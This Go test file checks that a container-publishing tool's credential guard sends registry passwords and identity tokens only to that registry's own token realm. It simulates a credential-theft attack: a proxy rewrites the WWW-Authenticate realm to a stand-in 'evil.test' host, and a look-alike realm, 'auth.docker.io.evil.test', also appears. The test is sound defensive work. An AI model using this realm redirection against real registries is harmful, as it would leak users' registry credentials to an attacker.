package credentials_test

import (
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-containerregistry/pkg/authn"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/ghcr-publish/publish-action/internal/credentials"
	"github.com/ghcr-publish/publish-action/internal/testkit/registrytest"
)

// dockerConfig stands in for the Docker config (authn.DefaultKeychain in
// CLI mode): credentials keyed by registry host, nothing for the rest.
type dockerConfig map[string]authn.AuthConfig

func (c dockerConfig) Resolve(target authn.Resource) (authn.Authenticator, error) {
	if cfg, ok := c[target.RegistryStr()]; ok {
		return authn.FromConfig(cfg), nil
	}
	return authn.Anonymous, nil
}

// recorder notes, per host, every secret that reached it, in a header or
// in a form body: where each credential went.
type recorder struct {
	next    http.RoundTripper
	secrets []string
	mu      sync.Mutex
	got     map[string][]string // host → secrets it received
}

func (r *recorder) RoundTrip(req *http.Request) (*http.Response, error) {
	var body []byte
	if req.GetBody != nil {
		b, _ := req.GetBody()
		body, _ = io.ReadAll(b)
	}
	seen := req.Header.Get("Authorization") + " " + string(body)
	for _, s := range r.secrets {
		if strings.Contains(seen, s) || strings.Contains(seen, url.QueryEscape(s)) || basicHolds(req, s) {
			r.mu.Lock()
			r.got[req.URL.Host] = append(r.got[req.URL.Host], s)
			r.mu.Unlock()
		}
	}
	return r.next.RoundTrip(req)
}

func basicHolds(req *http.Request, secret string) bool {
	_, password, ok := req.BasicAuth()
	return ok && password == secret
}

// TestDockerConfigStaysOnItsHost: in CLI mode the Docker config answers for
// registries the inputs give nothing for. Its credentials for a registry go
// to that registry (and a token realm on it), never to a realm on another
// host: a password in Basic credentials, an identity token in the body of
// the OAuth2 token request.
func TestDockerConfigStaysOnItsHost(t *testing.T) {
	t.Parallel()
	const password, identityToken = "docker-config-password-42", "docker-config-identity-token-42"
	reg, err := registrytest.Start(registrytest.Options{Passwords: []string{password}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { reg.Close() })
	img, err := random.Image(64, 1)
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.Write(mustRef(t, reg.Host()+"/acme/widget:v1"), img, remote.WithAuth(&authn.Basic{Username: "u", Password: password})); err != nil {
		t.Fatal(err)
	}
	// The front moves the realm to the evil host, which forwards to the
	// real token endpoint, as TestGuardForeignRealm's does.
	regURL := &url.URL{Scheme: "http", Host: reg.Host()}
	evil := newReflector(t, regURL)
	evilHost := "evil.test:" + strings.Split(evil.srv.URL, ":")[2]
	back := httputil.NewSingleHostReverseProxy(regURL)
	back.ModifyResponse = func(resp *http.Response) error {
		if c := resp.Header.Get("WWW-Authenticate"); c != "" {
			resp.Header.Set("WWW-Authenticate", strings.Replace(c, "http://"+reg.Host()+"/token", "http://"+evilHost+"/token", 1))
		}
		return nil
	}
	front := httptest.NewServer(back)
	t.Cleanup(front.Close)
	frontHost := strings.TrimPrefix(front.URL, "http://")

	tests := []struct {
		name    string
		host    string // the registry asked
		config  authn.AuthConfig
		guarded bool
		want    map[string][]string // host → secrets received
		denied  bool
	}{
		{"unguarded, the probe sees the leak", frontHost, authn.AuthConfig{Username: "u", Password: password}, false,
			map[string][]string{evilHost: {password}}, false},
		{"a password, realm on another host", frontHost, authn.AuthConfig{Username: "u", Password: password}, true, nil, true},
		{"an identity token, realm on another host", frontHost, authn.AuthConfig{Username: "<token>", IdentityToken: identityToken}, true, nil, true},
		{"a password, realm on the registry's host", reg.Host(), authn.AuthConfig{Username: "u", Password: password}, true,
			map[string][]string{reg.Host(): {password}}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			keychain := credentials.Keychain{Fallback: dockerConfig{tt.host: tt.config}}
			rec := &recorder{next: loopback(), secrets: []string{password, identityToken}, got: map[string][]string{}}
			var rt http.RoundTripper = rec
			if tt.guarded {
				rt = keychain.Transport(rec)
			}
			_, err := remote.Get(mustRef(t, tt.host+"/acme/widget:v1"), remote.WithAuthFromKeychain(keychain), remote.WithTransport(rt))
			var denied *credentials.DeniedError
			if tt.denied != errors.As(err, &denied) || (!tt.denied && err != nil) {
				t.Fatalf("Get = %v; want a *credentials.DeniedError: %v", err, tt.denied)
			}
			if denied != nil && (!strings.Contains(err.Error(), evilHost) || !strings.Contains(err.Error(), "Docker config")) {
				t.Errorf("error %q does not name %s and the Docker config", err, evilHost)
			}
			for _, s := range []string{password, identityToken} {
				if err != nil && strings.Contains(err.Error(), s) {
					t.Errorf("error %q shows a secret", err)
				}
			}
			got := map[string][]string{}
			for host, secrets := range rec.got {
				got[host] = dedupe(secrets)
			}
			if diff := cmp.Diff(tt.want, got, cmpEmpty); diff != "" {
				t.Errorf("secrets received by host (-want +got):\n%s", diff)
			}
		})
	}
}

var cmpEmpty = cmp.FilterValues(func(a, b map[string][]string) bool { return len(a) == 0 && len(b) == 0 }, cmp.Ignore())

func dedupe(v []string) []string {
	var out []string
	for _, s := range v {
		if len(out) == 0 || out[len(out)-1] != s {
			out = append(out, s)
		}
	}
	return out
}

// roundTripFunc answers requests in process: where a request may go is the
// guard's decision, made before any byte leaves.
type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(req *http.Request) (*http.Response, error) { return f(req) }

// TestDockerHubRealm: Docker Hub's registry names auth.docker.io as its
// token realm, a host of its own. Credentials for Docker Hub (from the
// Docker config, or the password input) may go there, and to Docker Hub's
// other names; never to a realm on any other host, a look-alike included.
func TestDockerHubRealm(t *testing.T) {
	t.Parallel()
	const password = "hub-password-42"
	tests := []struct {
		name     string
		keychain credentials.Keychain
		registry string // asked first, without credentials, as a client does before it knows the realm
		realm    string
		allowed  bool
	}{
		{"Docker config, Docker Hub's realm", credentials.Keychain{Fallback: dockerConfig{"index.docker.io": {Username: "u", Password: password}}}, "index.docker.io", "auth.docker.io", true},
		{"Docker config, another name of Docker Hub", credentials.Keychain{Fallback: dockerConfig{"index.docker.io": {Username: "u", Password: password}}}, "index.docker.io", "registry-1.docker.io", true},
		{"Docker config, a look-alike realm", credentials.Keychain{Fallback: dockerConfig{"index.docker.io": {Username: "u", Password: password}}}, "index.docker.io", "auth.docker.io.evil.test", false},
		{"Docker config, another registry's realm", credentials.Keychain{Fallback: dockerConfig{"quay.io": {Username: "u", Password: password}}}, "quay.io", "auth.docker.io", false},
		{"a login, Docker Hub's realm", credentials.Keychain{Logins: []credentials.Login{{Registry: "index.docker.io", Username: "u", Password: password}}}, "index.docker.io", "auth.docker.io", true},
		{"a login named docker.io, Docker Hub's realm", credentials.Keychain{Logins: []credentials.Login{{Registry: "docker.io", Username: "u", Password: password}}}, "index.docker.io", "auth.docker.io", true},
		{"a login, another registry", credentials.Keychain{Logins: []credentials.Login{{Registry: "quay.io", Username: "u", Password: password}}}, "quay.io", "auth.docker.io", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var reached []string
			rt := tt.keychain.Transport(roundTripFunc(func(req *http.Request) (*http.Response, error) {
				reached = append(reached, req.URL.Host)
				return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader("{}")), Request: req}, nil
			}))
			ping, _ := http.NewRequest(http.MethodGet, "https://"+tt.registry+"/v2/", nil)
			if _, err := rt.RoundTrip(ping); err != nil {
				t.Fatalf("ping %s: %v", tt.registry, err)
			}
			req, _ := http.NewRequest(http.MethodGet, "https://"+tt.realm+"/token?service=registry.docker.io", nil)
			req.SetBasicAuth("u", password)
			_, err := rt.RoundTrip(req)
			var denied *credentials.DeniedError
			if got := !errors.As(err, &denied); got != tt.allowed || (tt.allowed && err != nil) {
				t.Fatalf("request to %s: error %v; want allowed %v", tt.realm, err, tt.allowed)
			}
			if got := slices.Contains(reached, tt.realm); got != tt.allowed {
				t.Errorf("%s received the password: %v, want %v", tt.realm, got, tt.allowed)
			}
		})
	}
}
